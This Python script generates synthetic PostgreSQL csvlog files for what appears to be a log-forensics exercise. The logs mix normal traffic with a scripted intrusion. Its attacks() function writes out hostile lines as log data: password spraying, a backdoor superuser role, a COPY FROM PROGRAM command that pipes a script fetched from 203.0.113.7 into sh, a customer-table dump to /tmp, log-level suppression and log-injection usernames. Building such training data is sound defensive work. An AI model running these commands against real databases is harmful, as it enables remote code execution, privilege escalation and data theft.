#!/usr/bin/env python3
"""Writes the sample logs: make-samples.py [FOLDER], by default beside this file.

Rows have the shapes of a real PostgreSQL 15.20 csvlog (see Tests/Corpus) with log_connections,
log_disconnections, log_statement = ddl and log_min_duration_statement = 500; who did what, from
where and when is the story told in README.md. Same seed, same bytes.
"""
import datetime
import heapq
import pathlib
import random
import sys

rng = random.Random(20260302)
UTC = datetime.timezone.utc
HBA = {
    11: "local   all             postgres                                trust",
    12: "hostnossl all           all             10.20.0.0/16            reject",
    13: "hostssl all             all             10.20.0.0/16            scram-sha-256",
    14: "host    all             all             203.0.113.128/25        reject",
    15: "host    all             all             0.0.0.0/0               scram-sha-256",
    16: "host    all             all             ::/0                    scram-sha-256",
}
SSL = " SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)"
KNOWN = {"postgres", "shop_app", "shop_owner", "billing_app", "report_ro", "monitor", "dba_karl", "anna"}
rows = []


def clock(text, day=2):
    """Milliseconds since the epoch of a time of day in March 2026."""
    hours, minutes, seconds = text.split(":")
    midnight = datetime.datetime(2026, 3, day, tzinfo=UTC).timestamp()
    return round(midnight * 1000) + int(hours) * 3600000 + int(minutes) * 60000 + round(float(seconds) * 1000)


def stamp(ms, digits=3):
    text = datetime.datetime.fromtimestamp(ms // 1000, UTC).strftime("%Y-%m-%d %H:%M:%S")
    return (f"{text}.{ms % 1000:03d}" if digits else text) + " UTC"


def quoted(text):
    return "" if text is None else '"' + text.replace('"', '""') + '"'


class Process:
    """One backend: numbers its own records; pid and backend slot are given out in order of time by write()."""

    def __init__(self, at, kind, user=None, database=None, source=None):
        self.at, self.start, self.kind, self.user, self.database, self.source = at, at, kind, user, database, source
        self.port, self.app, self.line, self.pid, self.slot = rng.randrange(32768, 61000), "", 0, None, None
        self.address = None if source is None else source if source == "[local]" else f"{source}:{self.port}"

    def log(self, message, tag=None, vxid="", severity="LOG", state="00000", detail=None, hint=None, query=None, known=True):
        self.line += 1
        rows.append((self.at, len(rows), self, self.line, self.user if known else None, self.database if known else None,
                     tag, vxid, severity, state, message, detail, hint, query, self.app, self.kind if known else "not initialized"))
        return self

    def wait(self, ms):
        self.at += ms
        return self

    def received(self):
        where = "host=[local]" if self.source == "[local]" else f"host={self.source} port={self.port}"
        return self.log(f"connection received: {where}", "", known=False).wait(rng.randrange(2, 9))

    def login(self, hba, app="", role=True):
        """received, authenticated, authorized; a trusted socket has no second line in PostgreSQL 15."""
        self.received()
        if hba != 11:
            self.log(f'connection authenticated: identity="{self.user}" method=scram-sha-256 '
                     f"(/etc/postgresql/15/main/pg_hba.conf:{hba})", "authentication", "new")
        name = f" application_name={app}" if app else ""
        self.log(f"connection authorized: user={self.user} database={self.database}{name}{'' if hba == 11 else SSL}",
                 "authentication", "same" if hba != 11 else "new").wait(rng.randrange(4, 12))
        self.app = app if role else ""
        return self

    def fatal(self, state, message, detail=None, tag="authentication"):
        return self.log(message, tag, "same" if tag == "startup" else "new", "FATAL", state, detail)

    def ddl(self, statement, tag="idle", vxid="new", text="statement"):
        return self.log(f"{text}: {statement}", tag, vxid).wait(rng.randrange(2, 9))

    def slow(self, ms, statement):
        self.wait(ms).log(f"duration: {ms}.{rng.randrange(1000):03d} ms  statement: {statement}", statement.split()[0], "none")
        return self.wait(rng.randrange(2000, 90000))

    def error(self, state, message, query, tag=None, hint=None):
        tag = tag or query.split()[0]
        return self.log(message, tag, "same" if tag != query.split()[0] else "new", "ERROR", state, None, hint, query).wait(rng.randrange(900, 9000))

    def leave(self):
        ms = self.at - self.start
        port = "" if self.source == "[local]" else f" port={self.port}"
        return self.log(f"disconnection: session time: {ms // 3600000}:{ms // 60000 % 60:02d}:{ms // 1000 % 60:02d}.{ms % 1000:03d} "
                        f"user={self.user} database={self.database} host={self.source}{port}", "idle")


def client(at, user, database, source, kind="client backend"):
    return Process(at, kind, user, database, source)


def wrong_password(at, user, source, database="shop", hba=15):
    role = "" if user in KNOWN else f'Role "{user}" does not exist.\n'
    client(at, user, database, source).received().fatal(
        "28P01", f'password authentication failed for user "{user}"', f'{role}Connection matched pg_hba.conf line {hba}: "{HBA[hba]}"')


def burst(start, end, users, sources, hba=15, database="shop"):
    """One wrong password for each pair, spread over the time between."""
    for i, (user, source) in enumerate(zip(users, sources)):
        wrong_password(start + (end - start) * i // len(users) + rng.randrange(900), user, source, database, hba)


def server():
    main, checkpointer = Process(clock("06:00:03.112"), "postmaster"), Process(clock("06:00:03.140"), "checkpointer")
    main.log("starting PostgreSQL 15.20 (Debian 15.20-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc (Debian 12.2.0-14+deb12u1) 12.2.0, 64-bit")
    main.log('listening on IPv4 address "0.0.0.0", port 5432').log('listening on IPv6 address "::", port 5432')
    main.log('listening on Unix socket "/var/run/postgresql/.s.PGSQL.5432"')
    Process(clock("06:00:03.151"), "startup").log("database system was shut down at 2026-03-02 05:59:58 UTC")
    main.at = clock("06:00:03.204")
    main.log("database system is ready to accept connections")
    main.at = clock("11:30:00.020")
    main.log("received SIGHUP, reloading configuration files").log('parameter "work_mem" changed to "32MB"')
    for hour in range(8, 32, 4):
        checkpointer.at = clock(f"{hour}:05:00.041")
        checkpointer.log("checkpoint starting: time").wait(269_800 + rng.randrange(200))
        checkpointer.log(f"checkpoint complete: wrote {rng.randrange(400, 4000)} buffers (4.1%); 0 WAL file(s) added, 0 removed, 1 recycled; write=269.7"
                         "02 s, sync=0.009 s, total=269.781 s; sync files=41, longest=0.004 s, average=0.001 s; distance=21704 kB, estimate=23120 kB")


def applications():
    web = ["SELECT o.id, o.total FROM orders o WHERE o.customer_id = 48121 ORDER BY o.created_at DESC LIMIT 50",
           "UPDATE stock SET reserved = reserved + 1\n WHERE sku = 'TX-7, \"blue\"'\n   AND warehouse = 3",
           "SELECT count(*) FROM order_lines l JOIN orders o ON o.id = l.order_id WHERE o.state = 'open'"]
    pools = [("shop_app", "shop", "10.20.1.11", "shop-web", web), ("shop_app", "shop", "10.20.1.12", "shop-web", web),
             ("billing_app", "billing", "10.20.2.21", "PostgreSQL JDBC Driver", ["INSERT INTO invoices (id, note) VALUES (90113, 'it''s due')"]),
             ("report_ro", "dwh", "10.20.3.31", "metabase", ["SELECT date_trunc('week', at), sum(amount) FROM sales GROUP BY 1 ORDER BY 1"])]
    for user, database, source, app, statements in pools:
        for first, last in (("06:00:11", "15:10:00"), ("15:10:02", "24:10:00"), ("24:10:03", "32:20:00"))[:2 if user == "report_ro" else 3]:
            for _ in range(2):
                p = client(clock(first) + rng.randrange(4000), user, database, source).login(13, app)
                for moment in sorted(rng.randrange(p.at + 60_000, clock(last) - 200_000) for _ in range(rng.randrange(1, 4))):
                    p.at = max(p.at, moment)
                    p.slow(rng.randrange(510, 2900), rng.choice(statements))
                p.at = clock(last) + rng.randrange(3000)
                p.leave()
    for hour in range(6, 33, 2):
        p = client(clock(f"{hour}:30:00") + rng.randrange(400), "monitor", "postgres", "10.20.0.5").login(13, "pg_exporter")
        p.wait(rng.randrange(20, 60)).leave()
    for i in range(3):  # a new service without TLS: a mistake of ours, no attack
        client(clock(f"08:4{i}:10"), "billing_app", "billing", "10.20.2.29").received().fatal(
            "28000", 'pg_hba.conf rejects connection for host "10.20.2.29", user "billing_app", database "billing", no encryption')
    p = client(clock("13:02:40"), "shop_app", "shop", "10.20.1.12").login(13, "shop-web")
    p.error("42703", 'column "discont" does not exist', "SELECT discont FROM orders WHERE id = 7").leave()
    p = client(clock("23:30:00"), "postgres", "shop", "[local]").login(11, "vacuumdb")
    p.slow(41_207, "VACUUM (ANALYZE) public.orders;").leave()


def people():
    wrong_password(clock("09:02:11"), "anna", "10.20.9.14", hba=13)
    wrong_password(clock("09:02:19"), "anna", "10.20.9.14", hba=13)
    p = client(clock("09:02:31"), "anna", "shop", "10.20.9.14").login(13, "psql").wait(48_000)
    p.slow(1310, "SELECT * FROM orders WHERE note ILIKE '%late%'").leave()
    p = client(clock("20:15:07"), "anna", "shopp", "10.20.9.14").login(13, "psql", role=False)
    p.fatal("3D000", 'database "shopp" does not exist', tag="startup")
    p = client(clock("10:00:05"), "dba_karl", "shop", "10.20.9.10").login(13, "psql").wait(9000)
    for statement in ("CREATE TABLE public.coupons (\n    code text PRIMARY KEY,\n    percent int NOT NULL CHECK (percent BETWEEN 1 AND 90)\n)",
                      "ALTER TABLE public.orders ADD COLUMN coupon text REFERENCES public.coupons", "CREATE INDEX CONCURRENTLY orders_coupon_idx ON public.orders (coupon)",
                      "GRANT SELECT, INSERT ON public.coupons TO shop_app", "REVOKE ALL ON public.coupons FROM PUBLIC"):
        p.ddl(statement).wait(21_000)
    p.leave()
    p = client(clock("10:20:00"), "shop_owner", "shop", "10.20.9.40").login(13, "flyway")
    p.ddl("/* V118__coupons */ CREATE VIEW public.coupon_use AS SELECT coupon, count(*) FROM public.orders GROUP BY 1", "idle in transaction")
    p.ddl("ALTER TABLE public.orders ALTER COLUMN coupon SET DEFAULT NULL", "ALTER TABLE", "same", "execute <unnamed>").leave()
    p = client(clock("18:05:30"), "dba_karl", "postgres", "10.20.9.10").login(13, "psql").wait(7000)
    for statement in ("ALTER ROLE report_ro NOSUPERUSER NOLOGIN", "DROP ROLE svc_backup", "REVOKE postgres FROM report_ro", "ALTER SYSTEM RESET log_min_messages"):
        p.ddl(statement).wait(14_000)
    p.leave()
    for minute in range(3):  # the reports' pool does not know yet
        p = client(clock(f"06:{minute:02d}:20", 3), "report_ro", "dwh", "10.20.3.31").login(13, "metabase", role=False)
        p.fatal("28000", 'role "report_ro" is not permitted to log in', tag="startup")


def attacks():
    burst(clock("12:10:02"), clock("12:15:00"), ["postgres"] * 62, ["203.0.113.66"] * 62, database="postgres")
    spray = ["postgres", "shop_app", "admin", "anna", "dba_karl", "root", "billing_app", "test", "oracle", "backup", "report_ro", "gitlab"]
    burst(clock("13:20:00"), clock("13:22:10"), spray, ["203.0.113.99"] * 12, database="postgres")
    burst(clock("14:05:30"), clock("14:11:00"), ["admin"] * 18, ["2001:db8:bad::17"] * 18, 16)
    burst(clock("15:00:00"), clock("15:08:30"), ["billing_app"] * 24, [f"198.51.100.{7 + 19 * (i % 12)}" for i in range(24)], database="billing")
    burst(clock("16:40:00"), clock("16:43:10"), ["report_ro"] * 14, ["203.0.113.7"] * 14, database="dwh")
    burst(clock("04:30:00", 3), clock("04:33:00", 3), ["postgres"] * 15, ["203.0.113.66"] * 15, database="postgres")
    p = client(clock("16:43:21"), "report_ro", "dwh", "203.0.113.7").login(15, "psql").wait(6000)
    p.error("42501", "permission denied for view pg_shadow", "SELECT usename, passwd FROM pg_shadow")
    p.ddl("ALTER ROLE report_ro SUPERUSER").error("42501", "must be superuser to alter superuser roles or change superuser attribute",
                                                  "ALTER ROLE report_ro SUPERUSER", "ALTER ROLE").wait(31_000)
    for statement in ("ALTER ROLE report_ro SUPERUSER", "CREATE ROLE svc_backup LOGIN SUPERUSER PASSWORD 'Winter-2026!'",
                      "CREATE TABLE public.cmd_out (line text)"):
        p.ddl(statement).wait(12_000)
    p.slow(2113, "COPY public.cmd_out FROM PROGRAM 'id; curl -s http://203.0.113.7/k.sh | sh'")
    p.slow(8402, "COPY public.customers TO '/tmp/.c.csv' CSV")
    p.ddl("DROP TABLE public.cmd_out").wait(9000).ddl("ALTER SYSTEM SET log_min_messages = 'panic'")
    p.at = clock("17:21:48")
    p.leave()
    forged = 'x"\n2026-03-02 17:49:58.120 UTC,"postgres","shop",4242,"10.20.1.11:5'
    for i, name in enumerate((forged, 'postgres" host=10.20.1.11', "connection authorized: user=postgres database=shop")):
        wrong_password(clock(f"17:50:{12 + 9 * i}"), name.encode()[:63].decode(), "203.0.113.120")
    for i, (severity, state, text) in enumerate((("LOG", "08P01", "invalid length of startup packet"), ("LOG", "08P01", "incomplete startup packet"),
                                                 ("FATAL", "0A000", "unsupported frontend protocol 255.255: server supports 3.0 to 3.0"),
                                                 ("LOG", "08P01", "could not accept SSL connection: wrong version number"), ("LOG", "08P01", "invalid length of startup packet"))):
        hint = "This may indicate that the client does not support any SSL protocol version between TLSv1.2 and TLSv1.3." if "SSL" in text else None
        client(clock(f"19:00:{10 + 3 * i}"), None, None, "192.0.2.200").received().log(text, "", severity=severity, state=state, hint=hint, known=False)
    for i, user in enumerate(("postgres", "admin", "postgres", "root", "postgres", "shop_app")):
        client(clock(f"21:0{i}:30"), user, "postgres", "203.0.113.150").received().fatal(
            "28000", f'pg_hba.conf rejects connection for host "203.0.113.150", user "{user}", database "postgres", no encryption')
    for i in range(4):
        client(clock(f"22:1{i}:05"), "replicator", "", "192.0.2.44", "walsender").received().fatal(
            "28000", 'no pg_hba.conf entry for replication connection from host "192.0.2.44", user "replicator", no encryption')


def write(folder):
    """Rows in order of time, cut at midnight; pids, backend slots and transactions given out on the way."""
    rows.sort(key=lambda row: row[:2])
    last = {row[2]: row[1] for row in rows}
    free, counts, pid, days = list(range(3, 200)), {}, 20231, {"Mon": [], "Tue": []}
    for at, order, p, line, user, database, tag, vxid, severity, state, message, detail, hint, query, app, kind in rows:
        if p.pid is None:
            p.pid = pid = pid + rng.randrange(1, 9)
        if vxid:
            p.slot = heapq.heappop(free) if p.slot is None else p.slot
            counts[p.slot] = counts.get(p.slot, 0) + (vxid == "new")
            vxid = f"{p.slot}/{0 if vxid == 'none' else counts[p.slot]}"
        if order == last[p] and p.slot is not None:
            heapq.heappush(free, p.slot)
        days["Mon" if at < clock("00:00:00", 3) else "Tue"].append(",".join((
            stamp(at), quoted(user), quoted(database), str(p.pid), quoted(p.address), f"{p.start // 1000:x}.{p.pid:x}", str(line), quoted(tag),
            stamp(p.start, 0), vxid, "0", severity, state, quoted(message), quoted(detail), quoted(hint), "", "", "", quoted(query), "", "",
            quoted(app), quoted(kind), "", "0")) + "\n")
    for day, texts in days.items():
        (folder / f"postgresql-{day}.csv").write_text("".join(texts), "utf-8", newline="")


for part in (server, applications, people, attacks):
    part()
write(pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else pathlib.Path(__file__).resolve().parent)
